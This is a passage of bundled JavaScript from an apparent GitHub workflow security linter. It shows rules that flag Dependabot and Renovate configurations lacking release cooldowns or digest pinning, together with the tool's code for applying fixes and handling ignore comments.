    return ["major", "minor", "patch"].every((type) => types.includes(type));
}
function pinsOf(managers, datasources) {
    if (managers.length === 0 && datasources.length === 0)
        return ["actions", "docker"];
    const isDocker = datasources.includes("docker") || managers.some((name) => /docker|helm|kubernetes/.test(name));
    const isActions = managers.includes("github-actions") || datasources.some((name) => /^github-(?:tags|digest|runners)/.test(name));
    return [...(isActions ? ["actions"] : []), ...(isDocker ? ["docker"] : [])];
}
function datasourceOf(managers, datasources) {
    const [only, ...others] = new Set([...managers, ...datasources]);
    return only !== undefined && others.length === 0 ? only : null;
}
class State {
    releaseAge = { value: null, node: null };
    ruleAges = [];
    pins = {
        actions: { value: false, node: null },
        docker: { value: false, node: null },
    };
    /** Days that go for one datasource only. */
    ageOf = new Map();
    automerges = [];
    extend(name, node, ignored) {
        const preset = ignored.has(name) ? undefined : PRESETS.get(name);
        if (!preset)
            return;
        for (const other of preset.extends ?? [])
            this.extend(other, node, ignored);
        for (const [kind, value] of Object.entries(preset.pins ?? {}))
            this.pins[kind] = { value, node };
        if (preset.releaseAge)
            this.ageOf.set(preset.releaseAge.datasource, preset.releaseAge.days);
        if (preset.automerge === false)
            this.automerges = [];
        if (preset.automerge)
            this.automerges.push({ node, days: null });
    }
    settings(map, scope) {
        const age = ageIn(map);
        if (age && scope.isAll) {
            this.releaseAge = age;
            this.ruleAges.length = 0;
        }
        else if (age)
            this.ruleAges.push(age);
        if (age && scope.datasource !== null)
            this.ageOf.set(scope.datasource, age.value);
        const pin = map.scalar("pinDigests");
        if (typeof pin?.typed === "boolean")
            for (const kind of scope.pins)
                this.pins[kind] = { value: pin.typed, node: pin };
        const automerge = map.scalar("automerge");
        if (automerge?.typed === false && scope.isAll)
            this.automerges = [];
        const known = scope.datasource === null ? undefined : this.ageOf.get(scope.datasource);
        if (automerge?.typed === true)
            this.automerges.push({ node: automerge, days: age?.value ?? known ?? null });
    }
    verdict() {
        const { releaseAge, ruleAges, pins } = this;
        const automerges = this.automerges.map(({ node, days }) => ({ node, days: days ?? releaseAge.value }));
        return { releaseAge, ruleAges, pins, automerges };
    }
}
/** `minimumReleaseAge`, or `stabilityDays`, as it was called; what can't be read says nothing. */
function ageIn(map) {
    const age = map.scalar("minimumReleaseAge");
    if (age) {
        const days = age.isNull ? 0 : daysOf(age.value);
        return days === undefined ? undefined : { value: days, node: age };
    }
    const stability = map.scalar("stabilityDays");
    return typeof stability?.typed === "number" ? { value: stability.typed, node: stability } : undefined;
}
function rulesIn(root) {
    const items = root.seq("packageRules")?.items ?? [];
    return items.flatMap(({ value }) => (value.kind === "map" ? [value] : []));
}
function textsIn(node) {
    const nodes = node?.kind === "seq" ? node.items.map(({ value }) => value) : node ? [node] : [];
    return nodes.filter((value) => value.kind === "scalar" && typeof value.typed === "string");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/updates/automerge-without-cooldown.js




const MERGE = `on: pull_request
permissions: {}
jobs:
  merge:
    if: github.event.pull_request.user.login == 'dependabot[bot]'
    runs-on: ubuntu-latest
    permissions: {contents: write, pull-requests: write}
    steps:
      - run: gh pr merge --auto --squash "$URL"
        env:
          URL: \${{ github.event.pull_request.html_url }}
          GH_TOKEN: \${{ github.token }}
`;
const updates = (cooldown) => `version: 2\nupdates:\n  - package-ecosystem: npm\n    directory: /\n${cooldown}`;
/* harmony default export */ const automerge_without_cooldown = (defineRule({
    id: "automerge-without-cooldown",
    category: "updates",
    severity: "medium",
    summary: "Updates are merged by themselves as soon as they are released",
    risk: "A malicious release is in the default branch, with all that runs there, before anybody could have found it, and nobody looked at it.",
    mend: "Let updates wait: `minimumReleaseAge` in Renovate, `cooldown` in Dependabot. Or let a person merge them.",
    sources: [
        "https://docs.renovatebot.com/key-concepts/automerge/",
        "https://docs.github.com/code-security/dependabot/working-with-dependabot/automating-dependabot-with-github-actions",
    ],
    examples: { flagged: [], silent: [] },
    renovate(renovate, report) {
        for (const { node, days } of judgeRenovate(renovate)?.automerges ?? []) {
            if ((days ?? 0) > 0)
                continue;
            report(node, "Renovate merges releases as soon as they are there: no `minimumReleaseAge` holds them back");
        }
    },
    step(step, report) {
        const merge = dependabotMerge(step);
        const hasty = merge && hastyUpdate(report.repository);
        if (hasty)
            speak(merge, hasty, step);
        function speak(place, update, { owner }) {
            const what = update.ecosystem ? `updates of \`${update.ecosystem.value}\`` : "updates";
            const message = `Dependabot's pull requests are merged by themselves, and no \`cooldown\` holds ${what} back`;
            report(place, message, {
                confidence: owner.kind === "composite" ? "low" : "medium",
                related: [{ place: update.map.entries[0]?.key ?? update.map, message: "these don't wait" }],
            });
        }
    },
}));
/** The first entry that says nothing of waiting, or that waits for nothing: the platform's few days may be none on a server of one's own. */
function hastyUpdate({ dependabot }) {
    const all = dependabot.flatMap(({ updates }) => updates).filter(({ makesVersionUpdates }) => makesVersionUpdates);
    return all.find((update) => !update.cooldown || ((0,model/* cooldownDays */.zG)(update) ?? model/* PLATFORM_COOLDOWN_DAYS */.qG) === 0);
}

// EXTERNAL MODULE: ./packages/workflow-analysis/lib/config/index.js + 3 modules
var lib_config = __webpack_require__(1713);
;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/updates/dependabot-cooldown.js





const KEY = "default-days";
/* harmony default export */ const dependabot_cooldown = (defineRule({
    id: "dependabot-cooldown",
    category: "updates",
    severity: "medium",
    isZizmor: true,
    fixes: "safe",
    summary: "Dependabot takes versions that are only a few days old",
    risk: "Most malicious releases are found and removed within days. Whoever takes a version as soon as it is there is among the first that it runs at.",
    mend: "Set `cooldown: {default-days: 7}` in the update entry. Security updates don't wait for it.",
    sources: [
        "https://docs.github.com/code-security/dependabot/working-with-dependabot/dependabot-options-reference#cooldown-",
        "https://docs.zizmor.sh/audits/#dependabot-cooldown",
    ],
    options: { days: (0,lib_config/* numberOption */.jZ)(7, "How many days old a version must be at least") },
    examples: { flagged: [], silent: [] },
    dependabot(dependabot, report) {
        const { days } = report.options;
        for (const update of dependabot.updates) {
            const effective = (0,model/* cooldownDays */.zG)(update);
            if (!update.makesVersionUpdates || effective === undefined || effective >= days)
                continue;
            const edit = setIn(update.map, "cooldown", KEY, String(days));
            report(placeOf(update), `Versions are taken when they are ${effective} days old, before ${days} have passed`, {
                fix: edit && { description: `set \`cooldown.${KEY}: ${days}\``, safe: true, edits: [edit] },
            });
        }
    },
}));
function placeOf({ map, cooldown }) {
    return cooldown?.scalar(KEY) ?? map.entry("cooldown")?.key ?? firstLineOf(map);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/updates/dependabot-execution.js


const dependabot_execution_KEY = "insecure-external-code-execution";
const entry = (setting) => `version: 2
updates:
  - package-ecosystem: bundler
    directory: /
    schedule: {interval: weekly}
${setting}`;
/* harmony default export */ const dependabot_execution = (defineRule({
    id: "dependabot-execution",
    category: "updates",
    severity: "high",
    isZizmor: true,
    fixes: "unsafe",
    summary: "Dependabot runs the code of packages while it updates them",
    risk: "A package that isn't reviewed yet runs with the credentials of the registries that the update may read.",
    mend: `Remove \`${dependabot_execution_KEY}\`, or set it to \`deny\`. Updates of packages that need their own code to be resolved then fail, and have to be made by hand.`,
    sources: [
        "https://docs.github.com/code-security/dependabot/working-with-dependabot/dependabot-options-reference#insecure-external-code-execution--",
        "https://docs.zizmor.sh/audits/#dependabot-execution",
    ],
    examples: { flagged: [], silent: [] },
    dependabot(dependabot, report) {
        for (const { map } of dependabot.updates) {
            const setting = map.entry(dependabot_execution_KEY);
            if (setting?.value.kind !== "scalar" || setting.value.value !== "allow")
                continue;
            const edit = setValue(setting, "deny");
            report(setting.value, "Dependabot may run code of the packages that it updates", {
                fix: edit && { description: `set \`${dependabot_execution_KEY}: deny\``, safe: false, edits: [edit] },
            });
        }
    },
}));

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/json-edits.js
/** Edits of a JSON or JSON5 file that follow the style of what stands there and leave every other byte as it is. */
/** Adds a member at the end of an object; null where the text isn't what it seems. */
function insertMember(map, key, value) {
    return insertLast(map, map.entries.at(-1)?.key.start, `${JSON.stringify(key)}: ${value}`);
}
/** Adds an element at the end of an array. */
function insertElement(seq, value) {
    return insertLast(seq, seq.items.at(-1)?.value.start, value);
}
function insertLast(holder, lastStart, text) {
    const { file, start } = holder;
    const last = holder.kind === "map" ? holder.entries.at(-1)?.value : holder.items.at(-1)?.value;
    if (!last || lastStart === undefined)
        return { start: start + 1, end: start + 1, text };
    // In JSON5 a comma may stand behind the last one already; a comment there is left alone.
    const comma = /^\s*,/.exec(file.text.slice(last.end, holder.end))?.[0].length ?? 0;
    const at = last.end + comma;
    const from = file.text.lastIndexOf("\n", lastStart - 1) + 1;
    const before = file.text.slice(from, lastStart);
    const isOwnLine = from > start && before.trim() === "";
    const gap = isOwnLine ? `${file.text[from - 2] === "\r" ? "\r\n" : "\n"}${before}` : " ";
    return { start: at, end: at, text: comma > 0 ? `${gap}${text},` : `,${gap}${text}` };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/updates/renovate-cooldown.js






const renovate_cooldown_KEY = "minimumReleaseAge";
/* harmony default export */ const renovate_cooldown = (defineRule({
    id: "renovate-cooldown",
    category: "updates",
    severity: "medium",
    fixes: "safe",
    summary: "Renovate takes versions that are only a few days old",
    risk: "Most malicious releases are found and removed within days. Whoever takes a version as soon as it is there is among the first that it runs at.",
    mend: 'Set `"minimumReleaseAge": "7 days"`. Security updates don\'t wait for it.',
    sources: [
        "https://docs.renovatebot.com/key-concepts/minimum-release-age/",
        "https://docs.renovatebot.com/presets-config/#configbest-practices",
    ],
    options: { days: (0,lib_config/* numberOption */.jZ)(7, "How many days old a version must be at least") },
    examples: { flagged: [], silent: [] },
    renovate(renovate, report) {
        const verdict = judgeRenovate(renovate);
        if (!verdict)
            return;
        const { days } = report.options;
        const { releaseAge, ruleAges } = verdict;
        if ((releaseAge.value ?? 0) < days) {
            const waits = releaseAge.value === null ? "Versions are taken as soon as they are there" : tooSoon(releaseAge.value);
            report(releaseAge.node ?? firstLineOf(renovate.root), waits, {
                fix: renovate_cooldown_fixOf(renovate.root, releaseAge.node, days),
            });
        }
        for (const { value, node } of ruleAges) {
            if (value < days && node)
                report(node, tooSoon(value), { fix: renovate_cooldown_fixOf(renovate.root, node, days) });
        }
    },
}));
function tooSoon(days) {
    return `Versions are taken when they are ${Number(days.toFixed(2))} days old`;
}
function renovate_cooldown_fixOf(root, node, days) {
    const value = JSON.stringify(`${days} days`);
    // `stabilityDays` holds a number.
    const holder = node && [root, ...mapsBelow(root)].find((map) => map.get(renovate_cooldown_KEY) === node);
    const entry = holder?.entry(renovate_cooldown_KEY);
    const edit = node ? (entry ? setValue(entry, value) : null) : insertMember(root, renovate_cooldown_KEY, value);
    return edit && { description: `set \`${renovate_cooldown_KEY}\` to ${value}`, safe: true, edits: [edit] };
}
function mapsBelow(root) {
    const rules = root.seq("packageRules")?.items ?? [];
    return rules.flatMap(({ value }) => (value.kind === "map" ? [value] : []));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/updates/renovate-pinning.js




const WORKFLOW = `on: push
permissions: {}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: octo-org/thing@1234567890abcdef1234567890abcdef12345678 # v1.0.0
`;
const renovate_pinning_FILES = { ".github/workflows/ci.yml": WORKFLOW };
const PRESET = {
    actions: "helpers:pinGitHubActionDigests",
    docker: "docker:pinDigests",
};
const WORDS = { actions: "actions", docker: "images" };
/* harmony default export */ const renovate_pinning = (defineRule({
    id: "renovate-pinning",
    category: "updates",
    severity: "low",
    fixes: "safe",
    summary: "Renovate doesn't pin what it updates",
    risk: "An action or image that Renovate adds or updates goes by a tag, which its owner, or whoever takes over the account, can move to other code.",
    mend: "Extend `helpers:pinGitHubActionDigests` and `docker:pinDigests`, or `config:best-practices`, which holds both.",
    sources: [
        "https://docs.renovatebot.com/presets-helpers/#helperspingithubactiondigests",
        "https://docs.renovatebot.com/docker/#digest-pinning",
    ],
    examples: { flagged: [], silent: [] },
    renovate(renovate, report) {
        const verdict = judgeRenovate(renovate);
        if (!verdict)
            return;
        const open = usedIn(report.repository, verdict).filter((kind) => !verdict.pins[kind].value);
        if (open.length === 0)
            return;
        const place = open.map((kind) => verdict.pins[kind].node).find((node) => node !== null);
        const message = `The ${open.map((kind) => WORDS[kind]).join(" and ")} that Renovate updates aren't pinned to digests`;
        report(place ?? firstLineOf(renovate.root), message, { fix: place ? null : renovate_pinning_fixOf(renovate, open) });
    },
}));
function usedIn(repository, { updatesActions }) {
    const hasActions = updatesActions && repository.uses().some(({ target }) => target.kind === "repository");
    return [
        ...(hasActions ? ["actions"] : []),
        ...(repository.dockerfiles.length > 0 ? ["docker"] : []),
    ];
}
function renovate_pinning_fixOf({ root }, open) {
    const presets = open.map((kind) => JSON.stringify(PRESET[kind])).join(", ");
    const list = root.seq("extends");
    if (!list && root.get("extends"))
        return null;
    const edit = list ? insertElement(list, presets) : insertMember(root, "extends", `[${presets}]`);
    return edit && { description: `extend ${presets}`, safe: true, edits: [edit] };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/updates/ecosystems.js
/** Dependabot's names of ecosystems by the files that show them. */
const MANIFESTS = [
    [/^(?:package\.json|\.npmrc|\.yarnrc(?:\.yml)?|pnpm-workspace\.yaml)$/, "npm"],
    [/^bunfig\.toml$/, "bun"],
    [/^(?:requirements.*\.txt|pyproject\.toml|pip\.conf|pipfile)$/i, "pip"],
    [/^uv\.toml$/, "uv"],
    [/^go\.mod$/, "gomod"],
    [/^cargo\.toml$/i, "cargo"],
    [/^gemfile$/i, "bundler"],
    [/^composer\.json$/, "composer"],
    [/^pom\.xml$/, "maven"],
    [/^(?:build|settings)\.gradle(?:\.kts)?$/, "gradle"],
    [/^nuget\.config$/i, "nuget"],
    [/^(?:.*\.)?(?:docker|container)file(?:\..*)?$/i, "docker"],
];
/** The first file of each ecosystem that the repository shows, but for the actions. */
function manifestsOf({ files }) {
    const found = new Map();
    for (const { path } of files) {
        const name = path.slice(path.lastIndexOf("/") + 1);
        const ecosystem = MANIFESTS.find(([pattern]) => pattern.test(name))?.[1];
        if (ecosystem !== undefined && !found.has(ecosystem))
            found.set(ecosystem, { path, ecosystem });
    }
    return [...found.values()];
}
/** Ecosystems that Dependabot knows under several names, or that read the same files. */
const ALSO = {
    npm: ["bun"],
    pip: ["uv", "conda"],
    docker: ["docker-compose", "helm"],
};
/** Does an entry of Dependabot's for `given` keep `ecosystem` up to date? */
function isCoveredBy(ecosystem, given) {
    return given === ecosystem || (ALSO[ecosystem]?.includes(given) ?? false);
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/updates/updates-not-configured.js




const updates_not_configured_WORKFLOW = `on: push
permissions: {}
jobs:
  a:
    runs-on: ubuntu-latest
    steps:
      - uses: octo-org/thing@1234567890abcdef1234567890abcdef12345678 # v1.0.0
`;
const updates_not_configured_FILES = { ".github/workflows/ci.yml": updates_not_configured_WORKFLOW };
const ACTIONS = "github-actions";
/* harmony default export */ const updates_not_configured = (defineRule({
    id: "updates-not-configured",
    category: "updates",
    severity: "low",
    fixes: "unsafe",
    summary: "Nothing keeps the actions up to date",
    risk: "A pinned action stays what it is, with the holes that are found in it later: nobody is told that there is a mended version.",
    mend: "Add an entry for `github-actions` to `.github/dependabot.yml`, with a cooldown, or let Renovate do it.",
    sources: [
        "https://docs.github.com/code-security/dependabot/working-with-dependabot/keeping-your-actions-up-to-date-with-dependabot",
        "https://docs.renovatebot.com/modules/manager/github-actions/",
    ],
    examples: { flagged: [], silent: [] },
    repository(repository, report) {
        if (report.isPartial)
            return;
        const uses = repository.uses().find(({ target }) => target.kind === "repository");
        if (uses && !updatesActions(repository)) {
            const [dependabot] = repository.dependabot;
            report(updates_not_configured_placeIn(dependabot, uses.scalar), "Nothing keeps the actions that are used here up to date", {
                fix: dependabot ? updates_not_configured_fixOf(dependabot) : null,
            });
        }
        if (report.persona !== "regular")
            judgeOthers(repository, report);
    },
}));
/** Renovate takes care of everything that it finds. */
function updatesActions(repository) {
    if (repository.renovate.some((renovate) => !isOff(renovate) && (judgeRenovate(renovate)?.updatesActions ?? true)))
        return true;
    return updatesOf(repository).some((update) => update.ecosystem?.value === ACTIONS && coversRoot(update));
}
function updatesOf({ dependabot }) {
    return dependabot.flatMap(({ updates }) => updates);
}
/** For actions `/` stands for `.github/workflows` and for an `action.yml` at the root. */
function coversRoot({ directories }) {
    return directories.some(({ value }) => {
        const folder = value.replace(/^\/|\/$/g, "");
        return folder === "" || folder === "." || folder === ".github/workflows" || (0,config_globs/* globMatcher */.f)(folder)("");
    });
}
/** At the first line, without its text: that says nothing of what is missing. */
function updates_not_configured_placeIn(dependabot, uses) {
    return dependabot?.root.entry("updates")?.key ?? { file: uses.file, start: 0, end: 0 };
}
function judgeOthers(repository, report) {
    if (repository.renovate.length > 0)
        return;
    const given = updatesOf(repository).flatMap(({ ecosystem }) => ecosystem?.value ?? []);
    for (const { path, ecosystem } of manifestsOf(repository)) {
        const place = repository.dependabot[0]?.root.entry("updates")?.key;
        if (!place || given.some((name) => isCoveredBy(ecosystem, name)))
            continue;
        report(place, `Nothing keeps the packages of \`${path}\` (${ecosystem}) up to date`, { persona: "pedantic" });
    }
}
/** A further entry, in the style of those that are there. */
function updates_not_configured_fixOf({ root }) {
    const updates = root.seq("updates");
    const last = updates?.items.at(-1)?.value;
    if (!updates || updates.flow || last?.kind !== "map" || last.flow)
        return null;
    return {
        description: "add an entry for `github-actions`",
        safe: false,
        edits: [{ ...updates_not_configured_endOf(updates), text: entryText(updates, last.start) }],
    };
}
function updates_not_configured_endOf({ file, end }) {
    const at = file.text.slice(0, end).trimEnd().length;
    const lineFeed = file.text.indexOf("\n", at);
    // A comment behind the last value stays with it.
    const line = lineFeed === -1 ? file.text.length : lineFeed;
    const start = file.text[line - 1] === "\r" ? line - 1 : line;
    return { start, end: start };
}
function entryText({ file }, first) {
    const newline = /\r?\n/.exec(file.text)?.[0] ?? "\n";
    const { column } = file.position(first);
    const inner = " ".repeat(column - 1);
    const dash = `${inner.slice(2)}- `;
    const lines = ["directory: /", "schedule:", "  interval: weekly", "cooldown:", "  default-days: 7"];
    return [`${dash}package-ecosystem: ${ACTIONS}`, ...lines.map((line) => inner + line)]
        .map((line) => newline + line)
        .join("");
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/rules/index.generated.js

































/** Every rule, sorted by id. */
const RULES = [
    actions_lock_mismatch,
    archived_uses,
    artipacked,
    automerge_without_cooldown,
    compromised_action,
    dangerous_triggers,
    dependabot_cooldown,
    dependabot_execution,
    excessive_permissions,
    forbidden_uses,
    github_env,
    hardcoded_container_credentials,
    impostor_commit,
    insecure_commands,
    known_vulnerable_actions,
    ref_confusion,
    ref_version_mismatch,
    renamed_repository,
    renovate_cooldown,
    renovate_pinning,
    secrets_inherit,
    self_hosted_runner,
    stale_action_refs,
    suppression_without_reason,
    template_injection,
    transitive_unpinned,
    unpinned_base_image,
    unpinned_images,
    unpinned_uses,
    unreadable_file,
    unresolvable_ref,
    unused_suppression,
    updates_not_configured,
];

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/comments.js




/** Marks what ignore comments silence, and adds what is to be said about the comments themselves. */
function applyIgnoreComments(repository, findings, options) {
    const byPath = groupByPath(findings);
    const result = [];
    for (const document of [...repository.documents, ...repository.dockerfiles]) {
        const { path, text } = document.file;
        if (!options.isJudged(path))
            continue;
        const own = byPath.get(path) ?? [];
        byPath.delete(path);
        // Not `push(...)`: there may be more than a call takes.
        for (const finding of (0,lib/* mayHoldIgnores */.Qo)(text) ? applyToFile(document, own, options) : own)
            result.push(finding);
    }
    for (const rest of byPath.values())
        for (const finding of rest)
            result.push(finding);
    return result;
}
function groupByPath(findings) {
    const groups = new Map();
    for (const finding of findings) {
        const group = groups.get(finding.location.path);
        if (group)
            group.push(finding);
        else
            groups.set(finding.location.path, [finding]);
    }
    return groups;
}
function applyToFile(document, findings, options) {
    const { rules } = options;
    const comments = document
        .comments()
        .map((comment) => ({ ...comment, line: document.file.position(comment.start).line }));
    const silenced = (0,lib/* applyComments */.XX)(findings, comments, {
        isZizmorRule: (id) => rules.find((rule) => rule.id === id)?.isZizmor === true,
        alsoLines: (finding) => finding.alsoLines,
        partLines: (finding) => finding.partLines,
    });
    // Distances between words are costly, and a file may name the same unknown rule thousands of times.
    const unusedMessages = new Map();
    for (const { rule } of silenced.unused) {
        if (!unusedMessages.has(rule))
            unusedMessages.set(rule, unusedMessage(rule, rules));
    }
    const drafts = [
        ...silenced.withoutReason.map(({ comment }) => draft(document, "suppression-without-reason", comment, NO_REASON, options)),
        ...silenced.malformed.map((comment) => draft(document, "suppression-without-reason", comment, MALFORMED, options)),
        ...silenced.unused.map(({ ignore, rule }) => {
            const message = unusedMessages.get(rule);
            return message == null ? null : draft(document, "unused-suppression", ignore.comment, message, options);
        }),
    ];
    return [...silenced.findings, ...(0,lib/* fingerprintFindings */.f5)(drafts.filter((finding) => finding !== null))];
}
const MALFORMED = "This reads like an ignore comment, but silences nothing: write `# trustchain: ignore[rule-id] reason`";
const NO_REASON = "This ignore comment gives no reason, so it silences nothing";
/** Null where the rule exists but took no part: nobody knows then whether the comment is of use. */
function unusedMessage(rule, rules) {
    if (rules.some(({ id }) => id === rule))
        return `There is no finding of \`${rule}\` here to ignore`;
    const all = RULES.map(({ id }) => id);
    return all.includes(rule) ? null : `There is no rule \`${rule}\`${(0,action_kit_lib/* didYouMean */.au)(rule, all)}`;
}
/** Null when the rule doesn't take part in the run. */
function draft(document, id, comment, message, { rules, persona }) {
    const rule = rules.find((candidate) => candidate.id === id);
    if (!rule || !(0,lib/* isHeardBy */.it)(rule.persona, persona))
        return null;
    const { file } = document;
    return {
        rule: id,
        severity: rule.severity,
        confidence: "high",
        persona: rule.persona,
        message,
        location: locate({ file, start: comment.start, end: comment.end }),
        related: [],
        witness: null,
        fix: null,
        anchor: comment.text.trim(),
        alsoLines: [],
        partLines: null,
    };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/judge.js









/**
 * Reads and judges one repository.
 *
 * @param root its folder
 */
async function analyzeRepository(root, options = {}) {
    const config = options.config ?? lib_config/* NO_CONFIG */.H5;
    const repository = await readRepository(root, {
        isIgnored: config.isIgnored,
        only: options.only ?? null,
        ...(options.edited && { edited: options.edited }),
    });
    return judge_judge(repository, { ...options, config });
}
/** Judges a repository that has been read. */
async function judge_judge(repository, options = {}) {
    const config = options.config ?? lib_config/* NO_CONFIG */.H5;
    const persona = options.persona ?? config.persona ?? "regular";
    const only = options.only ? new Set(options.only) : null;
    const isJudged = (path) => only === null || only.has(path);
    const rules = (options.rules ?? RULES).filter((rule) => config.rules.get(rule.id)?.isOff !== true);
    if (config.facts.size > 0)
        repository.facts = new facts/* Facts */.At(config.facts);
    await (0,lib_shell/* prepareShells */.ZJ)();
    const rulesOver = () => analyze(repository, {
        rules,
        // Whether a comment silences nothing shows only when everything that it may speak of is looked for.
        persona: persona === "pedantic" ? "auditor" : persona,
        personas: personasOf(config),
        options: optionsOf(rules, config, options.options),
        ...(options.isUsesJudged && { isUsesJudged: options.isUsesJudged }),
        isJudged,
        isPartial: only !== null,
    });
    const { analysis, refused } = await withUpstream(repository, options.upstream ?? null, rulesOver);
    const { findings: drafts, errors } = analysis;
    const settled = applySettings((0,lib/* fingerprintFindings */.f5)(drafts), config);
    const silenced = applyIgnoreComments(repository, settled, { rules, persona, isJudged });
    return {
        findings: (0,lib/* sortFindings */.Tc)(silenced.filter((finding) => (0,lib/* isHeardBy */.it)(finding.persona, persona))),
        errors: refused ? [refused, ...errors] : errors,
        files: [...repository.sources.keys()].filter(isJudged).length,
        sources: repository.sources,
    };
}
/**
 * Judges with what is to be known of other repositories; rules may ask for more, and are heard again once it is there.
 * Without an answer the rest is judged all the same, and no fix is made of what is not known.
 */
async function withUpstream(repository, upstream, rulesOver) {
    if (!upstream)
        return { analysis: rulesOver(), refused: null };
    try {
        await upstream.load(repository);
        repository.upstream = upstream;
        const analysis = rulesOver();
        return { analysis: (await upstream.answer()) ? rulesOver() : analysis, refused: null };
    }
    catch (error) {
        if (!(error instanceof action_kit_lib/* UserError */.yo))
            throw error;
        repository.upstream = null;
        const refused = { path: error.place, line: 1, rule: null, message: `${error.reason}: ${error.remedy}` };
        return { analysis: rulesOver(), refused };
    }
}
function optionsOf(rules, config, given = new Map()) {
    return new Map(rules.map(({ id }) => [id, { ...config.rules.get(id)?.options, ...given.get(id) }]));
}
function personasOf(config) {
    return new Map([...config.rules].flatMap(([id, { persona }]) => (persona ? [[id, persona]] : [])));
}
/** The severities that settings give, and the places that they silence. */
function applySettings(findings, config) {
    if (config.rules.size === 0)
        return findings;
    return findings.map((finding) => {
        const settings = config.rules.get(finding.rule);
        if (!settings)
            return finding;
        const { path, startLine } = finding.location;
        const isIgnored = settings.ignore.some(({ matches, line }) => matches(path) && (line === null || line === startLine));
        const reason = settings.reason ?? `ignored in ${config.path}`;
        return {
            ...finding,
            severity: settings.severity ?? finding.severity,
            suppressed: isIgnored ? { by: "config", reason } : finding.suppressed,
        };
    });
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/fixes/same-meaning.js
/**
 * Did edits change only what they touch? Every node that no edit reaches must be there afterwards, with the same value;
 * in a mapping that an edit reaches, keys may be added.
 *
 * @param edits as they were applied to the text of `before`
 */
function keepsMeaning(before, after, edits) {
    return keeps(before, after, edits, edits);
}
/** @param near those of all edits that may reach the node, or what it holds */
function keeps(before, after, near, all) {
    if (!before || !after)
        return before === after;
    const touching = touchingOf(before, near);
    if (touching.length === 0)
        return same_meaning_isSame(before, after, all);
    if (before.kind === "scalar")
        return true;
    if (before.kind !== after.kind)
        return false;
    if (before.kind === "seq" && after.kind === "seq") {
        // Items may be added at the end.
        return (before.items.length <= after.items.length &&
            before.items.every((item, i) => keeps(item.value, after.items[i]?.value, item.alias ? all : touching, all)));
    }
    return before.kind === "map" && after.kind === "map" && keepsEntries(before.entries, after.entries, touching, all);
}
function keepsEntries(before, after, near, all) {
    const left = [...after];
    return before.every((entry) => {
        if (near.some((edit) => edit.start <= entry.key.start && edit.end > entry.key.start))
            return true;
        const index = left.findIndex((other) => other.key.value === entry.key.value);
        if (index === -1)
            return false;
        const [match] = left.splice(index, 1);
        return keeps(entry.value, match.value, entry.alias ? all : near, all);
    });
}
function touchingOf(node, edits) {
    const end = node.kind === "scalar" && !node.isEmpty ? node.end : lineEnd(node);
    return edits.filter((edit) => touches(edit, node, end));
}
/** Collections are touched at their ends, too: that is where keys are added. Scalars only inside. */
function touches(edit, node, end) {
    if (node.kind === "scalar" && !node.isEmpty) {
        return edit.start === edit.end
            ? edit.start > node.start && edit.start < node.end
            : edit.start < node.end && edit.end > node.start;
    }
    return edit.start <= end && edit.end >= node.start;
}
/** A comment behind a collection's last value belongs to its line. */
function lineEnd(node) {
    const { text } = node.file;
    let end = node.end;
    while (end < text.length && text[end] !== "\n" && text[end] !== "\r")
        end++;
    return end;
}
/** An alias stands where no edit reaches, and still changes with its anchor. */
function same_meaning_isSame(a, b, edits) {
    const same = (left, right, alias) => alias ? keeps(left, right, edits, edits) : same_meaning_isSame(left, right, edits);
    if (a.kind === "scalar")
        return b.kind === "scalar" && a.value === b.value && Object.is(a.typed, b.typed) && a.tag === b.tag;
    if (a.kind === "seq") {
        return (b.kind === "seq" &&
            a.items.length === b.items.length &&
            a.items.every((item, i) => same(item.value, b.items[i].value, item.alias)));
    }
    return (b.kind === "map" &&
        a.entries.length === b.entries.length &&
        a.entries.every((entry, i) => {
            const other = b.entries[i];
            return entry.key.value === other.key.value && same(entry.value, other.value, entry.alias);
        }));
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/place.js
function place_placeOf({ rule, location }, { sources }) {
    const { path, startLine, startColumn } = location;
    const lineStart = sources.get(path)?.lineStarts[startLine - 1] ?? 0;
    return { rule, path, offset: lineStart + startColumn - 1 };
}
function place_keyOf({ rule, path, offset }) {
    return `${rule}\0${path}\0${offset}`;
}
/** Where it is after edits; what they take the place of begins where they begin. */
function moved(place, edits) {
    let by = 0;
    for (const { start, end, text } of edits.get(place.path) ?? []) {
        if (end <= place.offset)
            by += text.length - (end - start);
        else if (start < place.offset)
            by += start - place.offset;
    }
    return { ...place, offset: place.offset + by };
}

;// CONCATENATED MODULE: ./packages/workflow-analysis/lib/check/fix.js







/** Fixes may make room for others, and some are refused on the way; more rounds would mean that two rules undo each other. */
const MAX_ROUNDS = 20;
/**
 * Applies fixes until none is left: each round takes those that don't overlap, checks every file that they change, and
 * judges the repository again. A fix after which its finding still stands is taken back. Nothing is written; see
 * `writeChanged`.
 *
 * @param rejudge judges the repository with these texts in place of what is on disk
 */
async function applyFixes(first, mode, rejudge) {
    const refused = new Refused();
    const edited = new Map();
    const mended = [];
    let judgement = first;
    for (let rounds = 0; rounds < MAX_ROUNDS; rounds++) {
        const round = await applyRound(judgement, mode, refused);
        if (round === "again")
            continue;
        if (round.edits.size === 0)
            break;
        const before = new Map(edited);
        for (const [path, edits] of round.edits)
            edited.set(path, (0,lib/* applyEdits */.ct)(fix_textOf(judgement, path), edits));
        const after = await rejudge(edited);
        const standing = stillStanding(round, judgement, after);
        if (standing.length === 0) {
            judgement = after;
            mended.push(...round.applied);
            refused.follow(round.edits);
            continue;
        }
        for (const finding of standing)
            refused.add(finding, judgement, "the finding would still stand");
        for (const path of round.edits.keys())
            restore(edited, before, path);
    }
    const changed = [...edited].map(([path, after]) => ({ path, before: fix_textOf(first, path), after }));
    return { changed: changed.filter(({ before, after }) => before !== after), judgement, mended, notes: refused.notes };
}
/** Fixes that are not to be tried again. */
class Refused {
    notes = [];
